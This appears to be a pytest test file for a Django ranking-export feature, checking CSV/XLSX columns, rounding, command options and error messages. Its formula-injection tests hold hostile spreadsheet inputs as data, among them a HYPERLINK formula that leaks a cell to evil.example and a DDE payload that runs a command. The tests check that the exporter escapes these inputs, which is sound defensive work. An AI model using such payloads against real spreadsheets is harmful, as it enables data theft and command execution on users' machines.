"""Exporting rankings: the table's columns and rounding, CSV/XLSX files, and the export_ranking command."""
from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.utils import translation

from accounts.models import City, GovAccount
from rankings import exporting
from rankings.models import ScoreRun
from tests.rankings.factories import ScoreRunFactory, ScoringSchemeFactory, ranking_build, scheme_make_default

pytestmark = pytest.mark.django_db

CITY_HEADER = ["rank", "city", "province", "score", "Police", "Traffic police", "Press release",
               "Fans", "Posting activity", "Reposts and comments"]
# ranking_build's values, rounded to 2 decimals by hand; an empty cell is a category without accounts.
CITY_ROWS = [
    ["1", "长沙", "湖南", "81.23", "85.56", "", "75.0", "90.13", "70.0", "80.56"],
    ["2", "株洲", "湖南", "64.5", "", "64.5", "", "50.0", "64.5", "77.0"],
    ["3", "武汉", "湖北", "40.0", "0.0", "", "40.0", "10.0", "40.0", "60.0"],
]
ACCOUNT_HEADER = [
    "rank in category", "account", "city", "province", "category", "score",
    "Fans", "Fans (expression value)", "Posting activity", "Posting activity (expression value)",
    "Reposts and comments", "Reposts and comments (expression value)", "flags", "reply rate",
]


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _export(*args: str) -> str:
    out = io.StringIO()
    call_command("export_ranking", *args, "--lang", "en", stdout=out, stderr=io.StringIO())
    return out.getvalue()


# --- the table -------------------------------------------------------------------------------------------
def test_the_city_table_has_rank_city_province_score_categories_and_indicators_rounded_to_2_decimals():
    run = ranking_build()

    with translation.override("en"):
        text = exporting.ranking_csv(exporting.city_ranking_frame(run=run), bom=False).decode("utf-8")

    assert _csv_rows(text) == [CITY_HEADER, *CITY_ROWS]
    assert "\r\n" in text  # Excel's line ends


def test_the_city_table_is_headed_in_chinese_by_default():
    run = ranking_build()

    with translation.override("zh-hans"):
        header = list(exporting.city_ranking_frame(run=run).columns)

    assert header[1:3] == ["城市", "省份"]
    assert header[4:7] == ["公安", "交警", "发布"]
    assert header[7:] == ["粉丝量", "发博积极性", "转评总量"]


def test_the_account_table_lists_accounts_by_category_with_indicators_and_flags():
    run = ranking_build()

    with translation.override("en"):
        rows = _csv_rows(exporting.ranking_csv(exporting.account_ranking_frame(run=run), bom=False).decode())

    assert rows[0] == ACCOUNT_HEADER
    assert [row[:6] for row in rows[1:]] == [
        ["1", "长沙警事", "长沙", "湖南", "Police", "85.56"],
        ["2", "武汉公安空壳", "武汉", "湖北", "Police", "0.0"],
        ["1", "株洲交警", "株洲", "湖南", "Traffic police", "64.5"],
        ["1", "长沙发布", "长沙", "湖南", "Press release", "75.0"],
        ["2", "武汉发布", "武汉", "湖北", "Press release", "40.0"],
    ]
    assert rows[1][6:8] == ["85.56", "1000.0"]  # normalised, then raw
    assert [row[12:] for row in rows[1:]] == [
        ["", "0.25"], ["empty shell, inactive", ""], ["broadcast only", "0.0"], ["", "0.5"], ["", "0.125"],
    ]


def test_the_account_tables_second_column_per_indicator_is_named_for_its_expressions_value_not_the_metric():
    # 粉丝量's expression is log1p(fans): the column holds that value, so it must not claim the raw fans.
    run = ranking_build()

    with translation.override("zh-hans"):
        header = list(exporting.account_ranking_frame(run=run).columns)

    assert header[6:8] == ["粉丝量", "粉丝量（表达式值，归一化前）"]
    assert not [column for column in header if "原始值" in column]


def test_a_run_without_results_exports_just_the_header():
    run = ScoreRunFactory()

    with translation.override("en"):
        rows = _csv_rows(exporting.ranking_csv(exporting.city_ranking_frame(run=run), bom=False).decode())

    assert rows == [["rank", "city", "province", "score", "Fans", "Posting activity", "Reposts and comments"]]


def test_the_table_is_built_in_one_query(django_assert_num_queries):
    run = ranking_build()
    with django_assert_num_queries(1):
        exporting.city_ranking_frame(run=run)
    with django_assert_num_queries(1):
        exporting.account_ranking_frame(run=run)


# --- the command -------------------------------------------------------------------------------------------
def test_the_command_writes_the_latest_published_ranking_of_the_default_scheme_to_stdout_without_a_bom():
    scheme = scheme_make_default(ScoringSchemeFactory())
    ranking_build(scheme=scheme, published=True)
    ScoreRunFactory(scheme=scheme, period_start=date(2012, 4, 1), period_end=date(2012, 4, 30))  # unpublished

    text = _export()

    assert not text.startswith("\ufeff")
    assert _csv_rows(text) == [CITY_HEADER, *CITY_ROWS]


def test_the_command_exports_a_chosen_run_or_scheme_and_period(tmp_path: Path):
    scheme = ScoringSchemeFactory(slug="chosen")
    run = ranking_build(scheme=scheme, published=True)
    unpublished = ranking_build(scheme=scheme, period_start=date(2012, 1, 1), period_end=date(2012, 3, 31))

    assert _csv_rows(_export("--scheme", "chosen", "--period", "2012-03"))[1] == CITY_ROWS[0]
    assert _csv_rows(_export("--run", str(unpublished.pk), "--level", "account"))[0] == ACCOUNT_HEADER
    assert run.pk != unpublished.pk


def test_a_csv_file_starts_with_a_bom_so_that_excel_reads_the_chinese(tmp_path: Path):
    run = ranking_build()
    target = tmp_path / "排行.csv"

    _export("--run", str(run.pk), "-o", str(target))

    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert _csv_rows(data.decode("utf-8-sig")) == [CITY_HEADER, *CITY_ROWS]


def test_an_xlsx_file_holds_the_same_table(tmp_path: Path):
    run = ranking_build()
    target = tmp_path / "ranking.xlsx"

    _export("--run", str(run.pk), "--format", "xlsx", "-o", str(target))

    sheet = openpyxl.load_workbook(target).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == CITY_HEADER
    assert rows[1] == [1, "长沙", "湖南", 81.23, 85.56, None, 75.0, 90.13, 70.0, 80.56]
    assert sheet.freeze_panes == "A2"


@pytest.mark.parametrize("args, message", [
    (["--run", "999999"], "There is no run #999999."),
    (["--scheme", "nope"], "No scheme “nope”; the schemes are:"),
    (["--period", "2012-13"], "month out of range in period “2012-13”"),
    (["--period", "2011"], "has no published ranking for 2011."),
    (["--format", "xlsx"], "XLSX is a binary format: give a file with -o FILE."),
    (["--run", "1", "--scheme", "x"], "Give either --run or --scheme/--period, not both."),
])
def test_the_command_explains_what_is_wrong(args, message):
    ranking_build(scheme=ScoringSchemeFactory(), published=True)

    with pytest.raises(CommandError, match=message.replace("(", r"\(").replace(")", r"\)")):
        _export(*args)


def test_a_run_that_has_not_succeeded_cannot_be_exported():
    run = ScoreRunFactory(status=ScoreRun.Status.RUNNING)

    with pytest.raises(CommandError, match=rf"Run #{run.pk} has no ranking to export: it is running\."):
        _export("--run", str(run.pk))


def test_a_default_scheme_without_a_published_ranking_is_an_error_in_chinese_by_default():
    with pytest.raises(CommandError) as raised:
        call_command("export_ranking", "--period", "2012-13", stdout=io.StringIO())

    assert str(raised.value) == "统计周期“2012-13”中的月份超出范围"


# --- formula injection (issue #8 item 1) ------------------------------------------------------------------
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1",
]


def _hostile_ranking() -> ScoreRun:
    """ranking_build's published run with every city and account renamed to a formula, and a negative
    score. (A province cannot be one any more: it is one of the 34 divisions, core.provinces.)"""
    run = ranking_build(published=True)
    for city, name in zip(City.objects.order_by("pk"), HOSTILE_NAMES, strict=False):
        City.objects.filter(pk=city.pk).update(name=name)
    for account, name in zip(GovAccount.objects.order_by("pk"), HOSTILE_NAMES[2:], strict=False):
        GovAccount.objects.filter(pk=account.pk).update(screen_name=name)
    run.city_scores.filter(rank=3).update(score=-3.5)
    return run


def _download(client, run: ScoreRun, *, file_format: str, level: str) -> bytes:
    response = client.get(f"/rankings/{run.pk}/", {"format": file_format, "level": level})
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("level", ["city", "account"])
def test_a_csv_download_escapes_every_cell_a_spreadsheet_would_run_as_a_formula(client, level):
    run = _hostile_ranking()

    rows = _csv_rows(_download(client, run, file_format="csv", level=level).decode("utf-8-sig"))

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    escaped = {cell for cell in cells if cell.startswith("'")}
    names = {"'" + name for name in (HOSTILE_NAMES[:3] if level == "city" else HOSTILE_NAMES[2:7])}
    assert names <= escaped
    if level == "city":
        assert rows[3][3] == "-3.5"  # a negative number stays a number


@pytest.mark.parametrize("level", ["city", "account"])
def test_an_xlsx_download_stores_names_as_escaped_text_never_as_formulas(client, level):
    run = _hostile_ranking()

    data = _download(client, run, file_format="xlsx", level=level)

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}  # no formula
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    names = HOSTILE_NAMES[:3] if level == "city" else HOSTILE_NAMES[2:7]
    # XML reads a carriage return back as a line feed.
    assert {"'" + name.replace("\r", "\n") for name in names} <= texts
    if level == "city":
        assert sheet.cell(row=4, column=4).value == -3.5  # a negative number stays a number


def test_a_scheme_label_that_looks_like_a_formula_is_escaped_in_the_header():
    run = ranking_build()
    document = run.document
    document["indicators"][0]["label_en"] = "=1+1"
    ScoreRun.objects.filter(pk=run.pk).update(document=document)
    run.refresh_from_db()

    with translation.override("en"):
        header = _csv_rows(exporting.ranking_export(run=run, level="city", file_format="csv",
                                                    bom=False).decode("utf-8"))[0]

    assert "'=1+1" in header
